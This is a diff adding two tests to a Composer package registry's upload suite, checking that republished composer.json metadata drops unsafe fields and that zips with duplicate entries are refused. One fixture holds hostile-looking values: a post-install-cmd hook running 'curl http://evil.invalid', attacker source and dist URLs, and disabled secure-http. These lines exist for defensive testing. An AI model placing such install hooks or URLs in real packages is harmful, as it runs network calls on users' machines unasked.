@@ -45,6 +45,50 @@ describe('private uploads', () => {
     expect(harness.metadata.totalHits() - harness.metadata.hitCount('/packages.json')).toBe(0)
   })
 
+  it('publishes only package-level fields of the uploaded composer.json', async () => {
+    harness = await startComposerAppHarness()
+    const kept = {
+      description: 'A tool',
+      type: 'library',
+      license: 'MIT',
+      autoload: { 'psr-4': { 'Team\\Tool\\': 'src/' } },
+      extra: { 'branch-alias': { 'dev-main': '1.x-dev' } },
+      bin: ['bin/tool'],
+    }
+    const dropped = {
+      'notification-url': 'http://evil.invalid/notify',
+      scripts: { 'post-install-cmd': 'curl http://evil.invalid' },
+      config: { 'secure-http': false },
+      source: { type: 'git', url: 'http://evil.invalid/repo.git', reference: 'abc' },
+      dist: { type: 'zip', url: 'http://evil.invalid/x.zip' },
+      'minimum-stability': 'dev',
+      'made-up-key': 1,
+    }
+    expect((await upload(harness, zipOf({ name: 'team/tool', version: '1.0.0', ...kept, ...dropped }))).status).toBe(201)
+    const text = await (await harness.request('/composer/p2/team/tool.json')).text()
+    expect(text).not.toContain('evil.invalid')
+    const [version] = (JSON.parse(text) as { packages: Record<string, Record<string, unknown>[]> }).packages['team/tool']!
+    expect(version).toMatchObject(kept)
+    expect(Object.keys(version!).filter((key) => key in dropped && key !== 'dist')).toEqual([])
+    expect(version!.dist).toMatchObject({ type: 'zip', url: expect.stringContaining(`${BASE}/composer/dists/team/tool/`) })
+  })
+
+  it('refuses a zip with two entries of the same name', async () => {
+    harness = await startComposerAppHarness()
+    const twice = writeZip([
+      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
+      { name: 'composer.json', data: '{"name":"team/other","version":"1.0.0"}' },
+    ])
+    expect(await errorOf(await upload(harness, twice))).toMatchObject({ status: 400, error: expect.stringContaining('two entries named composer.json') })
+    const dirAndFile = writeZip([
+      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
+      { name: 'src/', data: '' },
+      { name: 'src', data: 'x' },
+    ])
+    expect((await upload(harness, dirAndFile)).status).toBe(400)
+    expect((await harness.request('/composer/p2/team/tool.json')).status).toBe(404)
+  })
+
   it('never takes a privately owned name from upstream, even what was mirrored before', async () => {
     harness = await startComposerAppHarness({ env: { LARDER_INDEX_TTL_SECONDS: '0' } })
     const mirrored = harness.publish('team/tool', '9.0.0')
